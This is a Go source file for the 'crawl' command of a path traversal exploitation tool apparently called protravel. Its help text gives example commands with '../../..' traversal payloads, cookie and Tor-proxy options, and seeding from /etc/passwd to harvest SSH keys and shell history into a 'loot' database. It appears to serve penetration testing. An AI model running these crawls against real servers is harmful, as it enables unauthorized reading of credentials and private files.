package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"

	"github.com/spf13/cobra"

	"github.com/nao1215/protravel/internal/config"
	"github.com/nao1215/protravel/internal/crawler"
	"github.com/nao1215/protravel/internal/database"
	"github.com/nao1215/protravel/internal/frontier"
	plog "github.com/nao1215/protravel/internal/log"
	"github.com/nao1215/protravel/internal/loot"
	"github.com/nao1215/protravel/internal/model"
	"github.com/nao1215/protravel/internal/report"
	"github.com/nao1215/protravel/internal/sink"
	"github.com/nao1215/protravel/internal/transport"
)

// NewCrawlCmd creates the crawl command.
func NewCrawlCmd() *cobra.Command {
	cmd := &cobra.Command{
		Use:   "crawl <url>",
		Short: "Mirror files through a path traversal vulnerability",
		Long: `Crawl fetches files from a target vulnerable to path traversal.

The URL is the prefix every absolute path is appended to, for example
"http://host/download?file=../../..". Each file is saved under the output
directory at its remote path. Paths mentioned inside fetched files are
queued, and well-known files such as /etc/passwd expand into per-user
secrets like SSH keys and shell history.

Progress is kept in .queue.txt and .done.txt inside the output directory.
Running the same command again resumes the crawl; paths already attempted
are never requested twice.

Status markers:
  ✓  file stored
  0  file exists but is empty
  ❌ request failed (non-200 status or network error)

Examples:
  # Start from /etc/passwd
  protravel crawl -p /etc/passwd "http://10.0.0.5/view?page=../../../.."

  # Authenticated crawl with seeds from a file
  protravel crawl -H "Cookie: PHPSESSID=abc" -f paths.txt "http://host/dl?f=.."

  # Through a SOCKS5 proxy at two requests per second
  protravel crawl --proxy 127.0.0.1:9050 --rate 2 "http://host/dl?f=.."

  # Write a Markdown report of the run
  protravel crawl -m --report run.md "http://host/dl?f=.."`,
		Args: cobra.ExactArgs(1),
		RunE: runCrawlCmd,
	}

	// Request flags
	cmd.Flags().StringArrayP("header", "H", nil,
		`Header sent with every request, "Key: Value" (repeatable)`)
	cmd.Flags().DurationP("timeout", "t", config.DefaultTimeout,
		"Timeout for each request")
	cmd.Flags().String("proxy", "",
		"SOCKS5 proxy address (e.g., 127.0.0.1:9050)")
	cmd.Flags().Bool("insecure", false,
		"Skip TLS certificate verification")
	cmd.Flags().Float64("rate", 0,
		"Maximum requests per second (0 means unlimited)")
	cmd.Flags().String("user-agent", "",
		"User-Agent header (default: a desktop Firefox)")
	cmd.Flags().Int64("max-body-size", 0,
		"Largest response accepted; bigger files fail (0 means the default of 256 MiB)")

	// Seed and output flags
	cmd.Flags().StringP("output-dir", "o", config.DefaultOutputDir,
		"Directory receiving fetched files and crawl state")
	cmd.Flags().StringP("filelist", "f", config.DefaultFileList,
		"File with one seed path per line (ignored if missing)")
	cmd.Flags().StringArrayP("path", "p", nil,
		"Absolute seed path (repeatable)")

	// Configuration file
	cmd.Flags().StringP("config", "c", "",
		"Configuration file path (default: .protravel in current or home directory)")

	// Database flags
	cmd.Flags().String("db-dir", "",
		"Loot database directory (default: XDG data directory)")
	cmd.Flags().Bool("no-db", false,
		"Do not record attempts and notices in the loot database")

	// Report flags
	cmd.Flags().String("report", "",
		"Write a run report to the specified file path")
	cmd.Flags().BoolP("json", "j", false,
		"Output JSON report (mutually exclusive with --markdown)")
	cmd.Flags().BoolP("markdown", "m", false,
		"Output Markdown report (mutually exclusive with --json)")

	return cmd
}

// runCrawlCmd executes the crawl command.
func runCrawlCmd(cmd *cobra.Command, args []string) error {
	cfg, err := buildConfig(cmd, args)
	if err != nil {
		return err
	}

	if err := cfg.Validate(); err != nil {
		return fmt.Errorf("configuration error: %w", err)
	}

	logger := plog.NewSecureLogger(os.Stderr, cfg.Verbose)
	slog.SetDefault(logger)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	// The engine finishes the in-flight request, then saves and returns.
	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sigCh)
	go func() {
		select {
		case <-sigCh:
			logger.Info("received shutdown signal, saving progress...")
			cancel()
		case <-ctx.Done():
		}
	}()

	return runCrawl(ctx, cfg, logger, cmd.OutOrStdout(), isTerminal(os.Stdout))
}

// getVerboseFlag retrieves the verbose flag from the command or its parent.
func getVerboseFlag(cmd *cobra.Command) bool {
	verbose, err := cmd.Flags().GetBool("verbose")
	if err != nil {
		verbose, err = cmd.Root().PersistentFlags().GetBool("verbose")
		if err != nil {
			return false
		}
	}
	return verbose
}

// buildConfig creates a Config from cobra command flags and the
// configuration file.
func buildConfig(cmd *cobra.Command, args []string) (*config.Config, error) {
	cfg := config.NewConfig()
	flags := cmd.Flags()

	var err error
	if len(args) > 0 {
		cfg.Target = args[0]
	}
	cfg.Verbose = getVerboseFlag(cmd)

	if cfg.Headers, err = flags.GetStringArray("header"); err != nil {
		return nil, err
	}
	if cfg.Timeout, err = flags.GetDuration("timeout"); err != nil {
		return nil, err
	}
	if cfg.Proxy, err = flags.GetString("proxy"); err != nil {
		return nil, err
	}
	if cfg.InsecureTLS, err = flags.GetBool("insecure"); err != nil {
		return nil, err
	}
	if cfg.Rate, err = flags.GetFloat64("rate"); err != nil {
		return nil, err
	}
	if cfg.UserAgent, err = flags.GetString("user-agent"); err != nil {
		return nil, err
	}
	if cfg.MaxBodySize, err = flags.GetInt64("max-body-size"); err != nil {
		return nil, err
	}
	if cfg.OutputDir, err = flags.GetString("output-dir"); err != nil {
		return nil, err
	}
	if cfg.FileList, err = flags.GetString("filelist"); err != nil {
		return nil, err
	}
	if cfg.Seeds, err = flags.GetStringArray("path"); err != nil {
		return nil, err
	}

	dbDir, err := flags.GetString("db-dir")
	if err != nil {
		return nil, err
	}
	if dbDir != "" {
		cfg.DBDir = dbDir
	}
	noDB, err := flags.GetBool("no-db")
	if err != nil {
		return nil, err
	}
	cfg.SaveToDB = !noDB

	if cfg.ReportFile, err = flags.GetString("report"); err != nil {
		return nil, err
	}
	if cfg.JSONReport, err = flags.GetBool("json"); err != nil {
		return nil, err
	}
	if cfg.MarkdownReport, err = flags.GetBool("markdown"); err != nil {
		return nil, err
	}

	if cfg.ConfigFilePath, err = flags.GetString("config"); err != nil {
		return nil, err
	}

	// An explicitly named config file must exist; the default locations
	// are optional.
	explicitConfigPath := cfg.ConfigFilePath != ""
	configPath := config.FindConfigFile(cfg.ConfigFilePath)

	switch {
	case configPath != "":
		cfg.TargetConfigs, err = config.LoadConfigFile(configPath)
		if err != nil {
			return nil, fmt.Errorf("failed to load config file %s: %w", configPath, err)
		}
	case explicitConfigPath:
		return nil, fmt.Errorf("%w: %s", config.ErrConfigNotFound, cfg.ConfigFilePath)
	default:
		cfg.TargetConfigs = &config.File{
			Targets: make(map[string]config.TargetConfig),
		}
	}

	cfg.ApplyTargetConfig(cfg.TargetConfigs.GetTargetConfig(cfg.Target))

	return cfg, nil
}

// runCrawl executes one crawl described by cfg. Status lines go to out.
func runCrawl(ctx context.Context, cfg *config.Config, logger *slog.Logger, out io.Writer, tty bool) error {
	logger.Info("starting crawl",
		"target", cfg.Target,
		"headers", cfg.Headers,
		"outputDir", cfg.OutputDir,
		"seeds", len(cfg.Seeds),
		"saveToDB", cfg.SaveToDB,
	)

	client, err := newClient(cfg)
	if err != nil {
		return err
	}

	store := frontier.NewFileStore(cfg.OutputDir)
	f, err := store.Load(cfg.FileList, cfg.Seeds)
	if err != nil {
		return fmt.Errorf("failed to load crawl state: %w", err)
	}
	logger.Debug("crawl state loaded", "pending", f.Len(), "done", f.DoneLen())

	observers := crawler.MultiObserver{newConsole(out, tty)}

	var db *database.LootDB
	if cfg.SaveToDB {
		db, err = database.Open(cfg.DBDir, database.DefaultOptions())
		if err != nil {
			return fmt.Errorf("failed to open database: %w", err)
		}
		defer db.Close()
		logger.Info("database opened", "path", db.Path())
		observers = append(observers, newRecorder(db, cfg.Target, logger))
	}

	engine := crawler.NewEngine(cfg.Target, f, client, sink.NewDir(cfg.OutputDir), store,
		crawler.WithLogger(logger),
		crawler.WithAnalyzer(loot.NewAnalyzer()),
		crawler.WithObserver(observers),
	)

	runReport, runErr := engine.Run(ctx)

	if db != nil {
		if err := db.SaveRun(context.WithoutCancel(ctx), runReport); err != nil {
			logger.Error("failed to save run", "target", cfg.Target, "error", err)
		}
	}

	if err := outputReport(cfg, runReport, out); err != nil {
		logger.Error("report failed", "target", cfg.Target, "error", err)
	}

	switch {
	case runErr == nil:
		fmt.Fprintln(out, "Done")
		return nil
	case runReport.State == model.StateInterrupted && !errors.Is(runErr, crawler.ErrSaveFrontier):
		fmt.Fprintf(out, "Interrupted: %d paths pending, progress saved in %s\n",
			runReport.PendingAtExit, cfg.OutputDir)
		return nil
	default:
		return runErr
	}
}

// newClient builds the transport for cfg.
func newClient(cfg *config.Config) (*transport.Client, error) {
	headers, err := transport.ParseHeaders(cfg.Headers)
	if err != nil {
		return nil, err
	}

	client, err := transport.NewClient(cfg.Target,
		transport.WithTimeout(cfg.Timeout),
		transport.WithHeaders(headers),
		transport.WithProxy(cfg.Proxy),
		transport.WithInsecureTLS(cfg.InsecureTLS),
		transport.WithUserAgent(cfg.UserAgent),
		transport.WithMaxBodySize(cfg.MaxBodySize),
		transport.WithRate(cfg.Rate),
	)
	if err != nil {
		return nil, fmt.Errorf("failed to create client: %w", err)
	}
	return client, nil
}

// outputReport writes the run report when one was requested. A report file
// gets the selected format; without one, JSON and Markdown go to stdout.
func outputReport(cfg *config.Config, runReport *model.RunReport, stdout io.Writer) error {
	if cfg.ReportFile == "" && !cfg.JSONReport && !cfg.MarkdownReport {
		return nil
	}

	output := stdout
	if cfg.ReportFile != "" {
		dir := filepath.Dir(cfg.ReportFile)
		if dir != "" && dir != "." {
			if err := os.MkdirAll(dir, 0750); err != nil {
				return fmt.Errorf("failed to create output directory: %w", err)
			}
		}

		// Reports list stored secrets and should only be readable by the owner.
		f, err := os.OpenFile(cfg.ReportFile, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0600)
		if err != nil {
			return fmt.Errorf("failed to create output file: %w", err)
		}
		defer f.Close()
		output = f
	}

	var writer report.Writer
	switch {
	case cfg.JSONReport:
		writer = report.NewJSONWriter(output, report.WithPrettyPrint(), report.WithVersion(getVersion()))
	case cfg.MarkdownReport:
		writer = report.NewMarkdownWriter(output)
	default:
		writer = report.NewSimpleWriter(output, report.WithVerbose(cfg.Verbose))
	}
	_, err := writer.Write(runReport)
	return err
}
